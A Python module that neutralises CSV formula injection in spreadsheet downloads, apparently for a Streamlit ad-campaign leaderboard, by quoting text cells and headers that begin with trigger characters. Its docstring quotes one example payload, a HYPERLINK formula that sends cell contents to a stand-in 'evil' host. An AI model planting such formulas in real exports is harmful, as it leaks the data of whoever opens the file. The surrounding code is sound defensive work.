"""CSV downloads that are safe to open in a spreadsheet.

A cell whose text starts with `=`, `+`, `-` or `@`, a tab or a carriage return can be run as a formula by
Excel, LibreOffice or Google Sheets (OWASP "CSV Injection"): a campaign or ad-set name typed by anyone who
can edit the ad account, e.g. `=HYPERLINK("http://evil/?"&A1, "click")`, ends up in a marketer's
spreadsheet. `csv_bytes` therefore prefixes every such text cell, and every such column header, with a
single quote, which spreadsheets show as text. Numbers stay numbers: a numeric cell (-12.5 as a float, or
the text "-12.5", which no spreadsheet reads as a formula) is written as it is. The file is UTF-8 with a
byte-order mark so that Excel picks the right encoding (pound signs and accents survive), with RFC 4180
quoting and CRLF line ends.

    st.download_button("Download CSV", csv_bytes(table), "leaderboard.csv", "text/csv")
"""

from __future__ import annotations

import re
from typing import Any

import pandas as pd

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][-+]?\d+)?")


def neutralise(value: Any) -> Any:
    """`value` with a leading single quote if it is text a spreadsheet could run as a formula; else as is."""
    if not isinstance(value, str) or not value.startswith(TRIGGERS):
        return value
    if _PLAIN_NUMBER.fullmatch(value):
        return value
    return "'" + value


def _header(name: Any) -> Any:
    if isinstance(name, tuple):  # a MultiIndex level tuple
        name = " / ".join(str(part) for part in name)
    return neutralise(name)


def safe_frame(df: pd.DataFrame) -> pd.DataFrame:
    """A copy of `df` with every text cell and header neutralised; numeric, boolean and date columns untouched."""
    out = df.copy()
    out.columns = [_header(c) for c in out.columns]
    for i in range(out.shape[1]):
        col = out.iloc[:, i]
        if pd.api.types.is_numeric_dtype(col.dtype) or pd.api.types.is_datetime64_any_dtype(col.dtype):
            continue
        if isinstance(col.dtype, pd.CategoricalDtype):
            col = col.astype(object)
        out.isetitem(i, col.map(neutralise))
    return out


def csv_bytes(df: pd.DataFrame, index: bool = False) -> bytes:
    """`df` as spreadsheet-safe CSV bytes (UTF-8 with a BOM); the index only if asked for."""
    frame = df.reset_index() if index else df
    return safe_frame(frame).to_csv(index=False, lineterminator="\r\n").encode("utf-8-sig")
